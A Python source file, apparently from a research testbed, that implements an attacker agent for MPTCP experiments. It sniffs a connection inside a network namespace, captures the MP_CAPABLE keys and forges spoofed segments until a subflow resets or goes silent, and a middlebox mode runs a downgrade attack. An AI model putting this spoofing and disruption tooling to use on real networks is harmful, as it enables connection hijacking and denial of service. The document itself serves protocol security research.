"""The attacker process. Runs INSIDE the attacker's namespace and knows only what it sniffs:

    ip netns exec mptc-attacker python -m mptcrypt.attacks.agent NAME --port 6001 [--client ... --server ...]

It taps its interface (the hub floods path 1 to it), waits for the MPTCP connection client -> server:port, reads
the MP_CAPABLE keys off the wire, lets the transfer settle, runs the attack module's `attack(agent)`, keeps
watching until `--observe` seconds after the SYN, and prints ONE JSON object on stdout: what it saw
(`view`), what it sent (`actions`) and what the attack module measured (`result`). "ready" goes to stderr once
the tap is open, so the runner starts the transfer only then. Optional module hooks: `setup(agent)` before
"ready", `at_syn(agent)` as soon as the connection's SYN is seen (before the keys), `after(agent)` at the end.

`--role middlebox` runs an attack's `middlebox(args)` instead (the downgrade attack, in the hub switch's
namespace).
"""

from __future__ import annotations

import argparse
import json
import sys
import time
import traceback

from mptcrypt.attacks.common import Seg, Tap, View


class Agent:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.tap = Tap(args.iface)
        self.view = View(args.client, args.server, args.port, args.me)
        self.actions: list[dict] = []
        self.handlers: list = []  # called with every sniffed Seg after the view learned it
        self.started = time.time()
        self.deadline = self.started + args.deadline

    def pump(self, until: float, stop=None) -> bool:
        """Sniff (and feed handlers) until `until` (epoch seconds) or `stop()` is true. True if stopped early."""
        until = min(until, self.deadline)
        while True:
            if stop is not None and stop():
                return True
            left = until - time.time()
            if left <= 0:
                return False
            seg = self.tap.recv(min(left, 0.05))
            if seg is not None:
                self.feed(seg)

    def feed(self, seg: Seg) -> None:
        self.view.learn(seg)
        for handler in list(self.handlers):
            handler(seg)

    def send(self, frame: bytes, what: str, **detail) -> None:
        self.tap.send(frame)
        self.actions.append({"t": round(time.time(), 4), "what": what, **detail})

    def drain(self) -> None:
        """Learn from every frame already queued: the view is then as fresh as the wire."""
        for seg in self.tap.pending():
            self.feed(seg)

    def next_segment(self, match, timeout: float):
        """Sniff until a NEW segment with `match(seg)` true arrives (returned, already learned), or None. Frames
        already queued are learned first and do not count."""
        self.drain()
        box: list = []

        def grab(seg) -> None:
            if not box and match(seg):
                box.append(seg)

        self.handlers.append(grab)
        try:
            self.pump(time.time() + timeout, stop=lambda: bool(box))
        finally:
            self.handlers.remove(grab)
        return box[0] if box else None

    def next_upload_segment(self, timeout: float = 1.0):
        """The next client -> server data segment of the path-1 subflow: right after it, the receiver's next
        subflow and data sequence numbers are exactly known (the next write is a pacing tick away)."""
        v = self.view
        return self.next_segment(lambda s: s.src == v.client and s.dport == v.port and s.sport == v.cport
                                 and bool(s.payload), timeout)

    def next_download_segment(self, timeout: float = 1.0):
        """The next server -> client data segment of the path-1 subflow (the client's next expected sequence
        number and the server's latest timestamp are then exact: what a segment spoofed to the client needs)."""
        v = self.view
        return self.next_segment(lambda s: s.src == v.server and s.sport == v.port and s.dport == v.cport
                                 and bool(s.payload), timeout)

    def spoof(self, to_server=None, to_client=None, what: str = "", **detail) -> None:
        """Send forged segments of the path-1 subflow, each right after a real segment of the endpoint it
        impersonates (so its sequence number, ACK and timestamp are the freshest possible)."""
        v = self.view
        if to_client is not None:
            after = self.next_download_segment(timeout=0.5)
            self.drain()
            self.send(to_client(), what + " (spoofed server -> client)", seq=v.s2c.nxt, ack=v.c2s.nxt,
                      after_seg=(after.seq, after.end) if after else None, **detail)
        if to_server is not None:
            after = self.next_upload_segment(timeout=0.5)
            self.drain()
            self.send(to_server(), what + " (spoofed client -> server)", seq=v.c2s.nxt, ack=v.s2c.nxt,
                      after_seg=(after.seq, after.end) if after else None, **detail)

    def strike(self, to_server=None, to_client=None, what: str = "", tries: int = 5, gap: float = 0.3,
               **detail) -> int:
        """`spoof` until the path-1 subflow is reset or falls silent; the number of tries (0: no effect seen)."""
        for i in range(tries):
            self.spoof(to_server, to_client, what, **detail)
            if self._path1_dead(gap):
                return i + 1
        return 0

    def _path1_dead(self, gap: float) -> bool:
        v = self.view
        seen = {"normal": 0, "rst": 0}

        def count(seg) -> None:
            if {seg.src, seg.dst} == {v.client, v.server} and v.port in (seg.sport, seg.dport) and \
                    v.cport in (seg.sport, seg.dport):
                seen["rst" if seg.flags & 0x04 else "normal"] += 1

        self.handlers.append(count)
        try:
            self.pump(time.time() + gap, stop=lambda: seen["rst"] > 0)
        finally:
            self.handlers.remove(count)
        return seen["rst"] > 0 or seen["normal"] == 0

    def at(self, seconds_after_syn: float) -> float:
        base = self.view.syn_t if self.view.syn_t is not None else self.started
        return base + seconds_after_syn


def run_agent(args: argparse.Namespace, module) -> dict:
    warm_up()
    agent = Agent(args)
    if hasattr(module, "setup"):  # slow preparation (e.g. prebuilt flood packets) before the transfer starts
        module.setup(agent)
    print("ready", file=sys.stderr, flush=True)
    view = agent.view
    out: dict = {"attack": args.attack, "role": "attacker"}
    early: dict = {}
    try:
        agent.pump(agent.deadline, stop=lambda: view.cport is not None)
        if hasattr(module, "at_syn") and view.cport is not None:  # attacks on the handshake itself (blind-init)
            early = module.at_syn(agent) or {}
        agent.pump(agent.at(args.keys_timeout), stop=lambda: view.keys_known and view.c2s.segments > 3)
        agent.pump(agent.at(args.attack_after))
        out["attack_t"] = round(time.time(), 4)
        if view.cport is None:
            out["result"] = {"skipped": "no MPTCP connection to the server's port was seen on path 1"}
        else:
            out["result"] = {**early, **(module.attack(agent) or {})}
        agent.pump(agent.at(args.observe))
        if hasattr(module, "after"):
            out["result"].update(module.after(agent) or {})
    except Exception as exc:  # reported, never lost: the runner judges a crashed attack as not effective
        out["error"] = f"{type(exc).__name__}: {exc}"
        out["traceback"] = traceback.format_exc()
    out["view"] = view.summary()
    out["actions"] = agent.actions
    out["log"] = view.log[-50:]
    out["frames_sent"] = agent.tap.sent
    agent.tap.close()
    return out


def warm_up() -> None:
    """Import scapy and forge one frame now: the first import takes ~0.5 s, which at attack time would make
    every sequence number the attacker just read stale."""
    from mptcrypt.attacks.common import View, forge

    forge(View("10.0.0.1", "10.0.0.2", 1, "10.0.0.3"), "10.0.0.1", "10.0.0.2", 1, 2, 0, 0, 0x10)


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m mptcrypt.attacks.agent", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack")
    p.add_argument("--role", choices=("attacker", "middlebox"), default="attacker")
    p.add_argument("--iface", default="a-eth0")
    p.add_argument("--client", default="10.0.1.2")
    p.add_argument("--server", default="10.0.1.1")
    p.add_argument("--me", default="10.0.1.66")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--keys-timeout", type=float, default=1.0, help="seconds after the SYN to wait for the keys")
    p.add_argument("--attack-after", type=float, default=1.2, help="seconds after the SYN")
    p.add_argument("--observe", type=float, default=4.5, help="keep watching until this long after the SYN")
    p.add_argument("--deadline", type=float, default=20.0, help="give up this long after starting")
    p.add_argument("--queue-num", type=int, default=4343, help="middlebox: NFQUEUE number")
    p.add_argument("--mode", default="", help="attack-specific variant")
    return p


def main(argv: list[str] | None = None) -> int:
    from mptcrypt.attacks import get_attack

    args = build_parser().parse_args(argv)
    module = get_attack(args.attack)
    if args.role == "middlebox":
        result = module.middlebox(args)
    else:
        result = run_agent(args, module)
    sys.stdout.write(json.dumps(result, default=str) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
